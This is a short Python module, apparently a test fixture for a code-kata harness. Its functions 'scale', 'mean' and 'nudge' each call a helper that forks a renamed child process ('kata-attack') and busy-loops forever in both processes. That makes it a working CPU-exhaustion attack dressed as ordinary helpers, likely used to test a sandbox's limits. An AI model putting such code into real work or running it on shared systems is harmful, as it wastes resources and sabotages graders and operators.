"""Spins the CPU forever, in the caller and in a forked helper."""
import os


def _spin():
    if os.fork() == 0:
        try:
            import ctypes
            ctypes.CDLL(None).prctl(15, b"kata-attack", 0, 0, 0)
        except Exception:
            pass
        while True:
            pass
    while True:
        pass


def scale(x, k):
    _spin()


def mean(values):
    _spin()


def nudge(x, lr):
    _spin()
